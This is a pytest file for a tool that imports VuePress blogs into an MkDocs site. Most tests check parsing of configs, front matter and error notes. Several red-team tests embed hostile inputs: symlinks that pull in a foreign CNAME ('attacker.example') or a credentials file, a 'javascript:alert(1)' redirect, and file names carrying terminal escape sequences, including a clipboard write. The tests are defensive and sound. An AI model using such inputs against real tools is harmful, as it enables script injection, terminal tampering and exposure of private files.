    assert meta("01.机器学习/03.小知识点/90.不是文章.md") == {"title": "关于", "article": False}
    assert meta("01.机器学习/03.小知识点/95.有分类.md")["categories"] == ["自己的"]
    assert meta("杂记/随手.md") == {"title": "随手", "categories": ["杂记"]}
    assert meta("01.机器学习/01.重复/01.重复/a..md")["categories"] == ["机器学习", "重复"]
    result = build_site(tmp_path / "site", docs_dir=_with_docs(tmp_path))
    assert result.returncode == 0, result.stderr


def _with_docs(tmp_path: Path) -> Path:
    """The imported docs/ with the site's own pages beside them, to build."""
    project = make_project(tmp_path / "q")
    shutil.copytree(tmp_path / "docs", project, dirs_exist_ok=True)
    return project


def test_a_blog_folder_named_as_one_of_the_site_s_pages_or_files_is_renamed_not_lost(tmp_path):
    """errors/README.md was published at errors/, where the site writes its own index, and silently replaced by it;
    tags.json/index.md ended the build in a traceback. Both now go under another name, said in the report."""
    write(tmp_path / "blog/errors/README.md", "---\ntitle: 我的报错\n---\n我的报错笔记。\n")
    write(tmp_path / "blog/tags.json/index.md", "---\ntitle: 标签数据\n---\n标签数据说明。\n")
    write(tmp_path / "blog/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert (tmp_path / "docs/blog-errors/README.md").is_file() and (tmp_path / "docs/blog-tags.json/index.md").is_file()
    assert not (tmp_path / "docs/errors").exists() and not (tmp_path / "docs/tags.json").exists()
    assert any(line.startswith("errors/README.md → blog-errors/README.md (the site publishes its own page or file") for line in report.renamed)
    result = build_site(tmp_path / "site", docs_dir=tmp_path / "docs")
    assert result.returncode == 0, result.stderr
    assert "我的报错笔记" in (tmp_path / "site/blog-errors/index.html").read_text(encoding="utf-8")


def test_a_cname_in_a_linked_public_folder_is_not_read(tmp_path):
    """Nothing is read through a linked folder: a public/ linked to another place named the site's address."""
    outside = write(tmp_path / "elsewhere/CNAME", "attacker.example\n").parent
    write(tmp_path / "blog/docs/.vuepress/config.js", "module.exports = { title: 's' }\n")
    (tmp_path / "blog/docs/.vuepress/public").symlink_to(outside, target_is_directory=True)
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert not (tmp_path / "docs/CNAME").exists()
    assert "attacker.example" not in (report.config.url if report.config else "")


def test_many_essays_whose_names_differ_by_their_numbers_only_import_in_linear_time(tmp_path):
    """Each twin counted up from -2 through the ones before it: 8,000 took a minute."""
    counter = iter(range(1_000_000))

    def run(n: int):
        root = tmp_path / f"b{next(counter)}"
        for i in range(n):
            write(root / f"blog/{i:05d}.同名.md", f"---\ntitle: 同名 {i}\n---\n正文 {i}\n")
        started = time.perf_counter()
        import_blog(root / "blog", root / "docs")
        return time.perf_counter() - started

    assert grows_linearly(run, 800)


def test_a_page_s_own_old_addresses_are_checked_at_import(tmp_path):
    """An author's redirect_from came through unchecked; the strict build then failed on it, and the report was silent."""
    write(tmp_path / "blog/01.笔记/01.甲.md", "---\ntitle: 甲\nredirect_from: [/index.html, 'javascript:alert(1)', /旧/甲.html]\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    said = [line for line in report.needs_a_person if line.startswith("01.笔记/01.甲.md:1: redirect_from")]
    assert len(said) == 2 and all(line.endswith("(the build fails until then)") for line in said)
    assert any("would replace the home page" in line for line in said) and any("not a URL" in line for line in said)


def test_the_import_report_shows_control_characters_in_names_escaped(tmp_path):
    """A file name's escape sequences reached the terminal raw (a title, colours, a cleared screen)."""
    name = "a#\x1b]0;PWNED\x07x/b\x1b[31mred.md"
    write(tmp_path / "blog" / name, "---\ntitle: A\n---\n正文\n")
    rendered = import_blog(tmp_path / "blog", tmp_path / "docs").render()
    assert "\x1b" not in rendered and "\x07" not in rendered
    assert "\\x1b[31mred.md" in rendered


def test_a_list_item_of_two_code_spans_is_no_error_entry(tmp_path):
    """`` - `float` 属性取值不是 `none` `` starts and ends with a backtick, but is two code spans and text: it was read as
    one error entry, rendered as a card with the message `float` 属性取值不是 `none`, and the check asked for its analysis."""
    from errata.entries import code_span_text, find_entries

    assert code_span_text("`float` 属性取值不是 `none`") is None and code_span_text("`a` `b`") is None
    assert code_span_text("``a`b``") == "a`b" and code_span_text("`` `a` ``") == "`a`" and code_span_text("`KeyError: 'a'`") == "KeyError: 'a'"
    assert find_entries("- `float` 属性取值不是 `none`\n- `overflow` 不是 `visible`\n\n## `a` 和 `b`\n") == []
    assert [entry.message for entry in find_entries("- `ValueError: x`\n\n  - 解决方案：y\n")] == ["ValueError: x"]


def test_a_config_exported_with_a_typescript_type_assertion_is_read(tmp_path):
    """vdoing's TypeScript template: ``export default <VdoingThemeConfig>{ ... }`` and ``<Array<NavItem>>[ ... ]``,
    which are the object and the list themselves; the repository and the nav were lost (0 nav items)."""
    vuepress = tmp_path / "blog/docs/.vuepress"
    write(vuepress / "config.ts", "import theme from './config/theme'\nimport head from './config/head'\n\n"
          "export default defineConfig4CustomTheme<ThemeCfg>({\n  title: '小屋',\n  head: head,\n  theme: 'vdoing',\n  themeConfig: theme,\n})\n")
    write(vuepress / "config/theme.ts", "import nav from './nav'\n\nexport default <ThemeCfg>{\n  nav: nav,\n  repo: 'wu/xiaowu',\n};\n")
    write(vuepress / "config/nav.ts", "import { NavItem } from 'vuepress/config'\n\nexport default <Array<NavItem>>[\n"
          "  { text: '首页', link: '/' },\n  { text: '笔记', link: '/notes/' },\n];\n")
    config = read_config(vuepress / "config.ts")
    assert (config.title, config.repo) == ("小屋", "wu/xiaowu")
    assert [item["text"] for item in config.nav] == ["首页", "笔记"]


def test_a_cast_that_is_not_a_type_is_not_read_through(tmp_path):
    """Only a type's name goes between the angle brackets: a comparison is code, never read as a literal."""
    write(tmp_path / "config.ts", "const nav = a < b > [1]\nexport default { title: '站', themeConfig: { nav, repo: <X<Y>>'u/r' } }\n")
    config = read_config(tmp_path / "config.ts")
    assert config.title == "站" and config.nav == []


def test_a_home_page_whose_front_matter_is_never_closed_is_read_as_vuepress_reads_it(tmp_path):
    """gray-matter (VuePress 1 and 2) reads a front matter that is never closed to the end of the file: the blog's
    home page (its YAML ending in comments) failed the import and was lost."""
    write(tmp_path / "blog/index.md", "---\nhome: true\nheroText: 小屋\ntagline: 慢慢写\n\nfeatures:\n  - title: 笔记\n"
          "    details: 记下来\n    link: /notes/\n\n# 注释\n\n")
    write(tmp_path / "blog/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    write(tmp_path / "blog/01.笔记/02.乙.md", "---\n\n这一行是正文，分隔线下面没有收尾的 ---。\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert report.home and "index.md" in report.home
    assert "小屋" in (tmp_path / "docs/index.md").read_text(encoding="utf-8")
    assert not any(line.startswith("index.md") for line in report.failed)
    # A page whose first line is a rule and whose rest is no mapping is not taken for front matter.
    assert any(line.startswith("01.笔记/02.乙.md:1: front matter is not closed") for line in report.failed)


def test_a_folder_s_readme_without_a_title_is_named_by_its_folder(tmp_path):
    """reco 1 blogs keep each post in its own folder (views/js/1/README.md): a post without a title and without a
    first-level heading was published as 'README'."""
    write(tmp_path / "blog/docs/views/timeLine/README.md", "---\nsidebar: false\n---\n\n## 时间轴\n")
    write(tmp_path / "blog/docs/views/js/03.闭包/README.md", "## 参考资料\n\n- 一\n")
    write(tmp_path / "blog/docs/views/js/index.md", "正文\n")
    write(tmp_path / "blog/docs/views/js/4/README.md", "# 变量提升\n\n正文\n")
    import_blog(tmp_path / "blog", tmp_path / "docs")
    titles = {str(p.relative_to(tmp_path / "docs")): split_front_matter(p.read_text(encoding="utf-8")).metadata["title"]
              for p in (tmp_path / "docs").rglob("*.md")}
    assert titles == {"views/timeLine/README.md": "timeLine", "views/js/03.闭包/README.md": "闭包",
                      "views/js/index.md": "js", "views/js/4/README.md": "变量提升"}


def test_the_report_names_the_imported_tags_the_site_s_tags_yml_does_not_allow(tmp_path, capsys):
    """After ``make import``, ``make check`` refused every imported essay whose tags the project's tags.yml does not
    list, and the import report had said nothing of it."""
    write(tmp_path / "blog/01.笔记/01.甲.md", "---\ntitle: 甲\ntags:\n  - 导航\n  - pip\n---\n正文\n")
    write(tmp_path / "blog/01.笔记/02.乙.md", "---\ntitle: 乙\ntags: [导航, \"\\e[31m红\"]\n---\n正文\n")
    write(tmp_path / "blog/01.笔记/03.丙.md", "---\ntitle: 丙\n---\n正文\n")
    config = write(tmp_path / "project/mkdocs.yml", "site_name: x\n")
    write(tmp_path / "project/tags.yml", "- pip\n- cuda\n")
    assert main([str(tmp_path / "blog"), str(tmp_path / "project/docs"), "--mkdocs-yml", str(config)]) == 0
    out = capsys.readouterr().out
    said = [line for line in out.splitlines() if "tags.yml" in line and "not in it" in line]
    assert len(said) == 1 and "'导航' (2 essays)" in said[0] and "pip" not in said[0] and "\x1b" not in said[0]
    # Without a tags.yml beside mkdocs.yml the site allows any tag: nothing to say.
    (tmp_path / "project/tags.yml").unlink()
    assert main([str(tmp_path / "blog"), str(tmp_path / "project/docs2"), "--mkdocs-yml", str(config)]) == 0
    assert "tags.yml" not in capsys.readouterr().out


def test_a_plain_list_of_code_spans_is_no_run_of_error_entries():
    """A real blog's list of functions (``- `encodeURI()` `` then ``- `decodeURI()` ``, nothing under either) was
    read as four error entries: four empty cards, and the check asked each for its analysis. An entry with its
    sections, or one written alone, is still an entry."""
    from errata.entries import find_entries

    plain = "四个方法：\n\n- `encodeURI()`\n- `encodeURIComponent()`\n- `decodeURI()`\n\n[文档](https://example.org/)\n"
    assert find_entries(plain) == []
    entries = "- `KeyError: 'a'`\n\n  - 解决方案：改。\n\n- `KeyError: 'b'`\n- `ValueError: c`\n\n  - 原因分析：d。\n"
    assert [entry.message for entry in find_entries(entries)] == ["KeyError: 'a'", "KeyError: 'b'", "ValueError: c"]
    assert [entry.message for entry in find_entries("- `KeyError: 'x'`\n")] == ["KeyError: 'x'"]


def test_an_item_of_a_file_name_with_prose_under_it_is_no_error_entry():
    """A lookup audit on a real blog: ``- `package.json` `` with a paragraph and a code block under it was an
    entry, so `npm ERR! Failed to parse package.json data.` was answered confidently with a page about a blog's
    files. An item with no labelled section is an entry only where its message reads as an error."""
    from errata.entries import find_entries

    files = "- `package.json`\n\n  依赖都写在这里。\n\n  ```json\n  {}\n  ```\n\n- `deploy.sh`\n\n  部署脚本。\n"
    assert find_entries(files) == []
    unlabelled = "- `CUDA out of memory`\n\n  把批大小减半。\n\n- `模块找不到`\n\n  重新安装。\n"
    assert [entry.message for entry in find_entries(unlabelled)] == ["CUDA out of memory", "模块找不到"]
    labelled = "- `package.json`\n\n  - 解决方案：\n    删掉再装。\n"
    assert [entry.message for entry in find_entries(labelled)] == ["package.json"]


def test_a_label_with_its_first_words_on_its_line_starts_a_section():
    """A real troubleshooting essay writes ``- **原因**：…`` and ``- **修复**：…`` under each error's heading: its
    errors without an error word (``CMake 3.23 or higher is required``) were dropped, the others had no sections."""
    from errata.entries import find_entries

    text = (
        "### `CMake 3.23 or higher is required. You are running version 3.16.3`\n"
        "- **原因**：Ubuntu 20.04 的 cmake 太旧\n- **修复**：从 Kitware 下载安装包：\n```bash\nsh cmake.sh\n```\n\n"
        "### `E: Unable to locate package gcc-x86-64`\n- 原因: 包名带了架构后缀\n- 解决：去掉后缀\n"
    )
    entries = find_entries(text)
    assert [e.message for e in entries] == ["CMake 3.23 or higher is required. You are running version 3.16.3", "E: Unable to locate package gcc-x86-64"]
    assert entries[0].sections == {"analysis": "Ubuntu 20.04 的 cmake 太旧", "solution": "从 Kitware 下载安装包：\n```bash\nsh cmake.sh\n```"}
    assert entries[1].sections == {"analysis": "包名带了架构后缀", "solution": "去掉后缀"}
    # A changelog's lines are no labels (English ones count only in bold).
    assert find_entries("## `v1.2.0`\n\n- fix: crash on start\n- feat: dark mode\n") == []


def test_an_error_word_inside_a_name_does_not_make_an_item_an_entry():
    """``console.error()`` and ``expected_output.txt`` hold "error" and "expected", but as parts of names: a blog's
    list of them is no list of errors. The same words standing alone still make an entry."""
    from errata.entries import find_entries

    names = "- `console.error()`\n\n  打印到标准错误输出。\n\n- `expected_output.txt`\n\n  期望的输出。\n"
    assert find_entries(names) == []
    errors = "- `npm ERR! code 1`\n\n  重装依赖。\n\n- `Build failed`\n\n  清缓存。\n"
    assert [entry.message for entry in find_entries(errors)] == ["npm ERR! code 1", "Build failed"]


def test_a_lowercase_readme_is_its_folder_s_page_for_nav_and_links(tmp_path):
    """VuePress reads ``readme.md`` as ``README.md`` (any case): ``/web/`` is that page, in the nav and in a link."""
    write(tmp_path / "blog/docs/.vuepress/config.ts", "export default defineUserConfig({ theme: recoTheme({ navbar: [\n"
          "  { text: '前端', link: '/web/' },\n] }) })\n")
    report, docs = import_files(tmp_path, {"web/readme.md": "---\ntitle: 甲\n---\n正文\n", "b.md": "---\ntitle: 乙\n---\n[前端](/web/)\n"})
    assert not any("nav item" in line or "leads to nothing" in line for line in report.needs_a_person), report.needs_a_person
    assert "前端 (/web/) → web/readme.md" in report.nav
    assert "(web/readme.md)" in (docs / "b.md").read_text(encoding="utf-8")


def test_reco_2_s_home_modules_give_the_hero_text_tagline_and_buttons(tmp_path):
    """reco 2's home page lists its ``modules``; each module's settings sit under its name (``Banner`` → ``banner``,
    a blog's own ``CustomModule`` → ``customModule``)."""
    for module in ("Banner", "CustomModule"):
        key = module[0].lower() + module[1:]
        docs = tmp_path / module / "docs"
        write(tmp_path / module / "blog/docs/README.md", f"---\nhome: true\nmodules:\n  - {module}\n  - Blog\n{key}:\n  heroText: 南山\n"
              "  tagline: 月下萤火\n  buttons:\n    - { text: 进入 →, link: '/a/' }\n---\n")
        write(tmp_path / module / "blog/docs/a/README.md", "---\ntitle: 甲\n---\n正文\n")
        import_blog(tmp_path / module / "blog", docs)
        home = (docs / "index.md").read_text(encoding="utf-8")
        assert "# 南山" in home and "月下萤火" in home and "[进入 →](a/README.md){ .md-button .md-button--primary }" in home, home


def test_hope_s_theme_call_with_its_behaviour_options_is_still_read(tmp_path):
    """hope's template writes ``hopeTheme({ ... }, { custom: true })``: the settings are the first argument."""
    vuepress = tmp_path / ".vuepress"
    write(vuepress / "navbar.ts", "export default navbar([{ text: '工具', link: '/tools/' }]);\n")
    write(vuepress / "theme.ts", "import navbar from './navbar.js';\nexport default hopeTheme(\n  {\n    hostname: 'https://a.example',\n"
          "    repo: 'https://github.com/xiao/blog',\n    docsDir: 'src',\n    navbar,\n  },\n  { custom: true }\n);\n")
    config = write(vuepress / "config.ts", "import theme from './theme.js';\nexport default defineUserConfig({ base: '/blog/', title: '小站', theme });\n")
    read = read_config(config)
    assert (read.repo, read.docs_dir, read.url) == ("https://github.com/xiao/blog", "src", "https://a.example/blog/")
    assert [item["text"] for item in read.nav] == ["工具"]


def test_a_home_page_s_missing_picture_is_reported_at_its_line(tmp_path):
    """An importer round: the home page's ``heroImage`` (line 3) was reported at line 1."""
    report, _ = import_files(tmp_path, {"README.md": "---\nhome: true\nheroImage: /hero.png\nheroText: 小站\n---\n", "a.md": "---\ntitle: 甲\n---\n正文\n"})
    assert any(line.startswith("README.md:3:") and "/hero.png" in line for line in report.needs_a_person), report.needs_a_person


def test_a_theme_s_key_that_is_no_date_is_reported_by_the_name_the_author_wrote(tmp_path):
    """hope 1's ``time`` is a date; ``time: 阅读 5 分钟`` is none, and the report said so of ``date``, a key the author never wrote."""
    report, meta = imported_front_matter(tmp_path, {"a.md": "---\ntitle: 甲\ntime: 阅读 5 分钟\n---\n正文\n"})
    assert meta["a.md"].get("time") == "阅读 5 分钟"
    assert any(line.startswith("a.md:3:") and "time for date" in line for line in report.needs_a_person), report.needs_a_person


ERROR_NOTES = """# 未定义

`Uncaught ReferenceError: TweenLite is not defined`

- 解决方案：在 HTML 里引入 `CDN` 链接

## 依赖缺失：`Could not find gem 'rails'`（下载超时）

换成国内镜像后重试。

- 原因：默认源在国外
- 解决：`gem sources --add https://gems.ruby-china.com/`

## 安装 `numpy` 的步骤

- 解决：先升级 pip
"""


def test_a_blog_s_error_notes_are_entries_of_the_index_and_the_lookup_under_their_own_headings(tmp_path):
    """Blogs write an error note under a heading of their own words (``## 依赖缺失：`Could not find gem …`（…）``),
    or put the error in the first paragraph under it: none was an entry, so the errors index and the
    lookup knew nothing of an imported blog's notes. Now such a heading, with an analysis or a solution
    under it, is an entry that stays as written: its heading's id is the entry's anchor, nothing is lost."""
    report, docs = import_files(tmp_path, {"01.笔记/01.报错.md": "---\ntitle: 报错\ndate: 2024-01-01\n---\n" + ERROR_NOTES})
    site = tmp_path / "site"
    result = build_site(site, docs_dir=docs)
    assert result.returncode == 0, result.stderr
    data = json.loads((site / "errors.json").read_text(encoding="utf-8"))
    urls = {entry["message"]: urllib.parse.unquote(entry["url"]) for entry in data["entries"]}
    noted = {message: url for message, url in urls.items() if url.startswith("笔记/报错/")}
    assert noted == {
        "Uncaught ReferenceError: TweenLite is not defined": "笔记/报错/#未定义",
        "Could not find gem 'rails'": "笔记/报错/#依赖缺失could-not-find-gem-rails下载超时",
    }
    page = (site / "笔记/报错/index.html").read_text(encoding="utf-8")
    for url in noted.values():
        assert f'id="{url.split("#")[1]}"' in page
    assert "换成国内镜像后重试" in page and "errata-entry" not in page  # the note as written, no card


def test_a_docs_folder_that_is_a_symbolic_link_is_not_followed(tmp_path):
    """A red-team audit: ``blog/docs`` linked to a folder elsewhere, whose files (credentials.txt, notes)
    the import copied into the site to be published. Links below ``docs/`` were refused; ``docs/`` itself not."""
    write(tmp_path / "outside/private.md", "# 私人\n")
    write(tmp_path / "outside/credentials.txt", "token\n")
    (tmp_path / "blog").mkdir()
    (tmp_path / "blog/docs").symlink_to("../outside")
    report = import_blog(tmp_path / "blog", tmp_path / "out")
    copied = [p.name for p in (tmp_path / "out").rglob("*") if p.is_file()] if (tmp_path / "out").exists() else []
    assert "private.md" not in copied and "credentials.txt" not in copied
    assert any("docs: a symbolic link, not followed" in line for line in report.needs_a_person)


@pytest.mark.parametrize("name, text", [("config.yml", "themeConfig:\n  nav: " + "[" * 1000 + "]" * 1000 + "\n"), ("config.toml", "a = " + "[" * 1000 + "]" * 1000 + "\n")])
def test_a_config_nested_too_deep_is_reported_not_a_traceback(tmp_path, name, text):
    """A red-team audit: 2 KB of nested lists ended the import in a RecursionError, nothing imported."""
    write(tmp_path / f"blog/docs/.vuepress/{name}", text)
    write(tmp_path / "blog/docs/a.md", "---\ntitle: 甲\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert f"{name}: cannot be read (lists or tables nested too deep)" in report.needs_a_person
    assert (tmp_path / "docs/a.md").is_file()


def test_a_file_name_that_is_not_utf8_is_reported_and_the_rest_imported(tmp_path):
    """A red-team audit: ``x\\xfe.md`` ended the import in a UnicodeEncodeError, nothing imported."""
    folder = tmp_path / "blog/docs/01.a"
    write(folder / "b.md", "---\ntitle: 乙\n---\n正文\n")
    with open(os.path.join(os.fsencode(folder), b"x\xfe.md"), "wb") as file:
        file.write(b"---\ntitle: a\n---\n# a\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert any(line.endswith("01.a/x\\xfe.md: a file name that is not UTF-8: not imported (rename it)") for line in report.needs_a_person)
    assert (tmp_path / "docs/01.a/b.md").is_file()


def test_a_category_name_longer_than_a_file_name_may_be_is_no_traceback(tmp_path):
    """A red-team audit: vdoing's ``categoryText`` of 86 Chinese characters (258 bytes) names the folder of its
    posts; asking whether the theme has a file of that name, then writing there, raised "File name too long".
    The post is reported as not written, with the file system's reason."""
    write(tmp_path / "blog/docs/.vuepress/config.js", "module.exports = { theme: 'vdoing', themeConfig: { categoryText: '" + "长" * 86 + "' } }\n")
    write(tmp_path / "blog/docs/_posts/p.md", "---\ntitle: 帖\n---\n正文\n")
    report = import_blog(tmp_path / "blog", tmp_path / "docs")
    assert any("p.md: cannot write: File name too long" in line for line in report.failed)


def test_an_auto_catalogue_page_lists_its_folder(tmp_path):
    """An importer round (twenty-two): VuePress 2's and hope's ``<AutoCatalog />`` made a folder's README an empty page
    (the component dropped, the report saying its content was kept). It is that folder's catalogue now."""
    report, docs = import_files(tmp_path, {
        "前端/README.md": "---\ntitle: 前端\n---\n# 前端\n\n<AutoCatalog />\n",
        "前端/一.md": "---\ntitle: 第一篇\n---\n正文\n",
        "后端/README.md": "# 后端\n\n说明文字。\n\n<AutoCatalog />\n",
        "后端/二.md": "---\ntitle: 第二篇\n---\n正文\n",
    })
    assert "- [第一篇](一.md)" in (docs / "前端/index.md").read_text(encoding="utf-8")
    assert "说明文字" in (docs / "后端/README.md").read_text(encoding="utf-8")  # a page with more than the component stays as written
    assert report.failed == []


def test_a_page_of_headings_alone_is_no_catalogue_and_no_hang():
    """An audit of round twenty-two: ``(?:#{1,6}[^\\n]*\\n|\\s)*<AutoCatalog`` matched each ``#### 标题`` line four ways,
    so a page of sixteen headings and nothing else (a draft's outline) took 4^16 steps to fail: the import hung."""
    from errata.blog.importer import _only_a_catalogue

    started = time.process_time()
    assert not _only_a_catalogue("#### 第一节 待写\n" * 40)
    assert _only_a_catalogue("# 前端\n\n## 目录\n\n<AutoCatalog />\n")
    assert time.process_time() - started < 1


def test_a_pipe_and_a_name_with_escapes_are_reported_not_passed_over(tmp_path):
    """A red-team audit (round 24): a FIFO among the essays was skipped without a word, and a file named with a
    terminal's escape sequence was imported as it was (the check refused it after)."""
    blog = tmp_path / "blog" / "docs"
    write(blog / ".vuepress" / "config.js", "module.exports = { title: 'b' }\n")
    write(blog / "01.notes" / "01.ok.md", "---\ntitle: ok\n---\n\n正文。\n")
    write(blog / "01.notes" / "02.x\x1b]52;c;aGk=\x07.md", "---\ntitle: x\n---\n\n正文。\n")
    os.mkfifo(blog / "01.notes" / "03.pipe.md")
    report = import_blog(tmp_path / "blog", tmp_path / "out")
    assert any("03.pipe.md: not a regular file" in line for line in report.skipped)
    assert any("02.x\\x1b]52;c;aGk=\\x07.md: a file name with control" in line for line in report.needs_a_person)
    written = [p.name for p in (tmp_path / "out").rglob("*.md")]
    assert not any("\x1b" in name for name in written) and any(name.endswith("ok.md") for name in written)


def test_a_hidden_essay_is_said_to_be_left_out(tmp_path):
    """Red team round 28: ``..md`` and ``.draft.md`` were passed over without a word (VuePress does not publish them
    either, so they stay out); a ``.DS_Store`` is no essay and is not mentioned."""
    report, docs = import_files(tmp_path, {"01.notes/01.ok.md": "---\ntitle: ok\n---\n\n正文。\n", "01.notes/..md": "# a\n", "01.notes/.draft.md": "# b\n", "01.notes/.DS_Store": "x"})
    hidden = [line for line in report.skipped if "a hidden file" in line]
    assert len(hidden) == 2 and any(line.endswith(("..md: a hidden file (its name starts with a dot; VuePress does not publish it either): not imported")) for line in hidden)
    assert not any(".DS_Store" in line for line in report.skipped)
    written = [p.name for p in docs.rglob("*.md")]
    assert any(name.endswith("ok.md") for name in written) and not any(name.startswith(".") for name in written)


@pytest.mark.parametrize("description", ["<p>K8S 笔记", "<div>K8S 笔记", "<details>"])
def test_a_catalogue_description_that_never_closes_an_element_keeps_the_list_a_list(tmp_path, description):
    """Red team round 32: a catalogue's description that opens an element and never closes it (``<p>K8S 笔记``, which the
    browser closes where the description ends) was written right above the list of pages: Python-Markdown read the rest
    of the page into the element, and the list was shown as text, its links gone; the check passed."""
    import markdown
    from mkdocs.config import load_config

    from conftest import ROOT

    report, docs = import_files(tmp_path, {
        "01.专题/01.报错小结.md": "---\ntitle: 报错小结\n---\n正文\n",
        "00.目录页/01.专题.md": f"---\npageComponent:\n  name: Catalogue\n  data:\n    path: 01.专题\n    description: '{description}'\ntitle: 专题\n---\n",
    })
    catalogue = split_front_matter((docs / "01.专题/index.md").read_text(encoding="utf-8"), "index.md").body
    config = load_config(str(ROOT / "mkdocs.yml"))
    page = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]).convert(catalogue)
    assert '<li><a href="01.报错小结.md">报错小结</a></li>' in page and report.failed == []


def test_a_hostname_with_the_site_s_folder_is_its_address(tmp_path):
    """vuepress-theme-hope 1 (``config({ themeConfig: { hostname: 'https://xlc520.github.io/StudyNote/' } })``,
    no ``base``): only a bare host was taken, so the site's address was lost and site_url left as Errata's.
    A base the hostname already ends with is not added twice; a path with ``..`` is no address."""
    config = write(tmp_path / "h/config.js", "const { config } = require('vuepress-theme-hope');\nmodule.exports = config({ title: 'S',\n"
                   "  themeConfig: { hostname: 'https://xlc520.github.io/StudyNote/', author: 'x' } });\n")
    assert read_config(config).url == "https://xlc520.github.io/StudyNote/"
    config = write(tmp_path / "b/config.js", "module.exports = { base: '/notes/', plugins: [['sitemap', { hostname: 'https://a.example/notes' }]] }\n")
    assert read_config(config).url == "https://a.example/notes/"
    config = write(tmp_path / "d/config.js", "module.exports = { plugins: [['sitemap', { hostname: 'https://a.example/../x' }]] }\n")
    assert read_config(config).url == ""


def test_what_a_theme_s_own_layout_shows_from_the_front_matter_is_not_lost_silently(tmp_path):
    """vuepress-theme-gungnir's ``layout: Links`` page is its front matter alone (``links:`` in groups of
    ``items`` with ``sitename``, ``url``, ``img``, ``desc``), and its ``layout: About`` page shows ``name``,
    ``interests``, ``education`` above the text: both were imported as a title and nothing else, and the
    report said nothing. The links become cards under a heading per group; the rest is named in the report."""
    docs = tmp_path / "blog/docs"
    write(docs / ".vuepress/config.js", "module.exports = { title: 'C', theme: 'gungnir' }\n")
    write(docs / "links/README.md", "---\nlayout: Links\ntitle: Links\nlinks:\n  - title: 好朋友\n    items:\n"
          "      - sitename: Tian-Cheng Qi\n        url: https://tcqi.example.io/\n        img: https://avatars.example.com/u/1\n        desc: 天成哥\n---\n")
    write(docs / "about/README.md", "---\nlayout: About\ntitle: About\nname: 周某\ninterests:\n  - 魔方\n---\n\n## 絮絮叨叨\n\n正文\n")
    write(docs / "posts/2021-08-06-a.md", "---\nlayout: post\ntitle: 日常\nsubtitle: s\ndate: 2021-08-06\ncatalog: true\ntags:\n  - 搭建博客\n---\n\n正文\n")
    out = tmp_path / "out"
    report = import_blog(tmp_path / "blog", out)
    links = (out / "links/README.md").read_text(encoding="utf-8")
    assert "## 好朋友" in links and "**[Tian-Cheng Qi](https://tcqi.example.io/)**" in links and "天成哥" in links
    about = [line for line in report.needs_a_person if line.startswith("about/README.md")]
    assert len(about) == 1 and "layout 'About'" in about[0] and "name, interests" in about[0]
    assert not [line for line in report.needs_a_person if "layout" in line and not line.startswith("about/")]  # a post is a page of text


def test_a_repository_whose_pages_are_in_another_folder_is_found(tmp_path):
    """vuepress-theme-gungnir's template runs ``vuepress dev blog``: the pages and ``.vuepress`` are in ``blog/``.
    Given the repository (as README says a blog may be given), the import took its top for the pages: no config,
    no public folder (``/img/logo.png`` led nowhere), and every old address under ``/blog/``."""
    write(tmp_path / "repo/README.md", "# my blog\n")
    write(tmp_path / "repo/blog/.vuepress/config.js", "module.exports = { title: 'C01day', plugins: [['sitemap', { hostname: 'https://c.example/' }]] }\n")
    write(tmp_path / "repo/blog/.vuepress/public/img/logo.png", b"\x89PNG\r\n\x1a\n")
    write(tmp_path / "repo/blog/posts/2021-08-06-a.md", "---\ntitle: 日常\ndate: 2021-08-06\n---\n\n![](/img/logo.png)\n")
    out = tmp_path / "out"
    report = import_blog(tmp_path / "repo", out)
    assert (out / "posts/2021-08-06-a.md").is_file() and (out / "img/logo.png").is_file()
    assert not any("logo.png" in line for line in report.needs_a_person)
    assert "/posts/2021-08-06-a.html" in (out / "posts/2021-08-06-a.md").read_text(encoding="utf-8")


def test_a_toml_time_of_day_does_not_end_the_import(tmp_path):
    """Red team round 33: ``lastmod = 07:32:00`` (TOML's local time, which YAML has no type for) ended the whole import
    in a traceback (``RepresenterError``), every other page with it."""
    report, docs = import_files(tmp_path, {
        "01.笔记/01.甲.md": '---toml\ntitle = "甲篇"\nlastmod = 07:32:00\n---\n正文\n',
        "01.笔记/02.乙.md": "---\ntitle: 乙\n---\n正文\n",
    })
    assert report.failed == [] and len(report.essays) == 2
    assert split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8"), "a.md").metadata["title"] == "甲篇"


def test_a_theme_s_layout_page_with_keys_that_are_not_text_is_imported(tmp_path):
    """Red team round 34: a page of a theme's own layout whose front matter has a key YAML reads as a number, a date or
    null (``1: one``, ``2021-01-01: x``) was not imported at all (``cannot convert: sequence item 0: expected str
    instance, int found``): naming its keys joined them as text."""
    docs = tmp_path / "blog/docs"
    write(docs / ".vuepress/config.js", "module.exports = { title: 'C', theme: 'gungnir' }\n")
    write(docs / "friends/README.md", "---\nlayout: Friends\ntitle: F\n1: one\nnull: nothing\n2021-01-01: date\n---\n\n正文\n")
    out = tmp_path / "out"
    report = import_blog(tmp_path / "blog", out)
    assert (out / "friends/README.md").is_file() and "正文" in (out / "friends/README.md").read_text(encoding="utf-8")
    named = [line for line in report.needs_a_person if line.startswith("friends/README.md")]
    assert len(named) == 1 and "(1, None, 2021-01-01)" in named[0]


@pytest.mark.parametrize(
    ("base", "hostname", "site"),
    [
        ("/notes/", "https://a.io/mynotes", "https://a.io/mynotes/notes/"),  # ends with the letters, not the folder
        ("/notes/", "https://a.io/x/notes", "https://a.io/x/notes/"),
        ("/a/notes/", "https://a.io/a/notes/", "https://a.io/a/notes/"),
        ("/b/", "https://a.io/a/b/c", "https://a.io/a/b/c/b/"),
    ],
)
def test_a_hostname_s_folder_is_compared_with_the_base_folder_by_folder(base, hostname, site):
    """Red team round 34: a hostname whose last folder merely ended with the ``base`` (``/mynotes`` and ``notes``) was
    taken to hold it, and the site's address lost its folder."""
    from errata.blog.theme import _site_url

    assert _site_url({"base": base, "plugins": [{"hostname": hostname}]}) == site
